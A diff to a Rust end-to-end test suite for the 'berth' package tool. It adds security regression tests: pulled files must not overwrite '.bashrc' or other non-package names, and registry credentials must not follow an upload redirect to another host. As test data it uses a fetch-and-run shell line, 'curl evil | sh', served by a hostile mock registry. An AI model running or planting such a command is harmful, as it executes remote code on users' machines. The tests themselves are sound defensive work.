@@ -348,15 +348,15 @@ fn a_large_blob_is_uploaded_in_chunks_and_a_blob_of_the_same_registry_is_mounted
     );
 }
 
-#[test]
-fn a_pulled_package_whose_bytes_do_not_match_leaves_nothing() {
-    let package = b"not really a package, but bytes with a digest".to_vec();
+/// A registry holding one package artifact titled `title` whose blob answers with
+/// `served` (the manifest lists `package`'s digest and size).
+fn package_registry(title: &str, package: Vec<u8>, served: Vec<u8>) -> HostileRegistry {
     let digest = Digest::of(&package);
     let file = berth_image::artifact::File {
         media_type: "application/vnd.berth.package.v1.tar+gzip",
         digest: &digest,
         size: package.len() as u64,
-        title: "app.tar.gz",
+        title,
     };
     let manifest = berth_image::artifact::manifest(
         "application/vnd.berth.package.v1",
@@ -365,26 +365,34 @@ fn a_pulled_package_whose_bytes_do_not_match_leaves_nothing() {
         serde_json::Map::new(),
     );
     let blob_path = format!("/v2/fleet/app/blobs/{digest}");
-    let r = HostileRegistry::start(move |req| {
+    HostileRegistry::start(move |req| {
         if req.path.contains("/manifests/") {
             Reply::ok(manifest.clone(), MANIFEST)
         } else if req.path == blob_path {
-            let mut tampered = package.clone();
-            tampered[0] ^= 1;
-            Reply::ok(tampered, "application/octet-stream")
+            Reply::ok(served.clone(), "application/octet-stream")
         } else {
             Reply::status(404, &[])
         }
-    });
+    })
+}
+
+/// `berth pull` from `r` into `dir`, with `extra` arguments.
+fn pull(r: &HostileRegistry, dir: &std::path::Path, extra: &[&str]) -> std::process::Output {
+    let source = format!("{}:1", r.image("fleet/app"));
+    let out_dir = dir.display().to_string();
+    let mut args = vec!["pull", "--retries", "0", &source, "--output-dir", &out_dir];
+    args.extend_from_slice(extra);
+    berth(&args)
+}
+
+#[test]
+fn a_pulled_package_whose_bytes_do_not_match_leaves_nothing() {
+    let package = b"not really a package, but bytes with a digest".to_vec();
+    let mut tampered = package.clone();
+    tampered[0] ^= 1;
+    let r = package_registry("app.tar.gz", package, tampered);
     let dir = tempfile::tempdir().unwrap();
-    let out = berth(&[
-        "pull",
-        "--retries",
-        "0",
-        &format!("{}:1", r.image("fleet/app")),
-        "--output-dir",
-        &dir.path().display().to_string(),
-    ]);
+    let out = pull(&r, dir.path(), &[]);
     assert_eq!(
         out.status.code(),
         Some(2),
@@ -397,4 +405,135 @@ fn a_pulled_package_whose_bytes_do_not_match_leaves_nothing() {
         0,
         "no package, no temporary file"
     );
+}
+
+/// Issue 21, finding 3: the registry named the file `.bashrc` and berth pull replaced
+/// the user's with a shell line; bytes that are no package were written as one.
+#[test]
+fn pull_writes_only_verified_packages_under_package_names_and_replaces_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let bashrc = dir.path().join(".bashrc");
+    std::fs::write(&bashrc, "the user's own\n").unwrap();
+    let line = b"curl evil | sh\n".to_vec();
+    for title in [".bashrc", "notes.txt", ".hidden.tar.gz"] {
+        let r = package_registry(title, line.clone(), line.clone());
+        let out = pull(&r, dir.path(), &["--force"]);
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{title}: {stderr}");
+        assert!(
+            stderr.contains("not a package file name"),
+            "{title}: {stderr}"
+        );
+        assert_eq!(stderr.lines().count(), 1, "{title}: one line: {stderr}");
+    }
+    assert_eq!(
+        std::fs::read_to_string(&bashrc).unwrap(),
+        "the user's own\n"
+    );
+    // A package's name, but bytes that are not a package: refused, nothing left.
+    let r = package_registry("app.tar.gz", line.clone(), line.clone());
+    let out = pull(&r, dir.path(), &[]);
+    assert_eq!(
+        out.status.code(),
+        Some(2),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let names = |d: &std::path::Path| -> Vec<String> {
+        std::fs::read_dir(d)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect()
+    };
+    assert_eq!(names(dir.path()), vec![".bashrc".to_string()]);
+    // A real package is not written over a file of its name without --force.
+    let work = tempfile::tempdir().unwrap();
+    let (path, _) = crate::push_pull::signed_package(work.path());
+    let package = std::fs::read(path).unwrap();
+    let r = package_registry("app.tar.gz", package.clone(), package.clone());
+    let existing = dir.path().join("app.tar.gz");
+    std::fs::write(&existing, "mine").unwrap();
+    let out = pull(&r, dir.path(), &[]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("--force"), "{stderr}");
+    assert_eq!(std::fs::read_to_string(&existing).unwrap(), "mine");
+    let out = pull(&r, dir.path(), &["--force"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(std::fs::read(&existing).unwrap(), package);
+    let mut left = names(dir.path());
+    left.sort();
+    assert_eq!(left, vec![".bashrc".to_string(), "app.tar.gz".to_string()]);
+}
+
+/// Issue 21, finding 7: the registry's Authorization went to an absolute upload
+/// `Location` on another host. Here the upload is sent where the registry says (it
+/// may store blobs elsewhere), but with no credentials; a relative `Location` is
+/// resolved against the request's URL, not glued to the host.
+#[test]
+fn credentials_stay_with_the_registry_that_asked_for_them() {
+    const ALICE: &str = "Basic YWxpY2U6cHc="; // base64("alice:pw")
+    let elsewhere = HostileRegistry::start(|r| match r.method.as_str() {
+        "PATCH" => Reply::status(202, &[("Location", "/elsewhere/session?state=2")]),
+        _ => Reply::status(201, &[]),
+    });
+    let upload_at = format!("http://{}/elsewhere/session?state=1", elsewhere.host);
+    let r = HostileRegistry::start(move |req| {
+        if req.header("Authorization") != Some(ALICE) {
+            return Reply::status(401, &[("WWW-Authenticate", "Basic realm=\"hostile\"")]);
+        }
+        match req.method.as_str() {
+            "HEAD" => Reply::status(404, &[]),
+            "POST" if req.path.contains("/blobs/uploads/") => {
+                Reply::status(202, &[("Location", upload_at.as_str())])
+            }
+            _ => Reply::status(201, &[]),
+        }
+    });
+    let dir = tempfile::tempdir().unwrap();
+    let layout = berth_image::Layout::create(&dir.path().join("img")).unwrap();
+    let layer = LayerTar::new().file("a", b"a", 0o644).finish();
+    let (digest, size) =
+        berth_e2e::images::put_image(&layout, &[layer], true, "amd64", None, json!({}));
+    berth_e2e::images::tag_manifest(&layout, "1", &digest, size);
+    let src = format!("oci:{}:1", dir.path().join("img").display());
+    let out = berth(&[
+        "image",
+        "copy",
+        "--quiet",
+        "--creds",
+        "alice:pw",
+        &src,
+        &format!("{}:1", r.image("up/load")),
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let there = elsewhere.seen();
+    assert!(
+        there
+            .iter()
+            .any(|q| q.method == "PUT" && q.path.contains("digest=")),
+        "the blobs went where the Location said: {there:?}"
+    );
+    for q in &there {
+        assert_eq!(
+            q.header("Authorization"),
+            None,
+            "{} {} carried the registry's credentials",
+            q.method,
+            q.path
+        );
+    }
+    // The manifest, on the registry itself, was sent with them.
+    assert!(r
+        .seen()
+        .iter()
+        .any(|q| q.method == "PUT" && q.path.contains("/manifests/1")));
 }
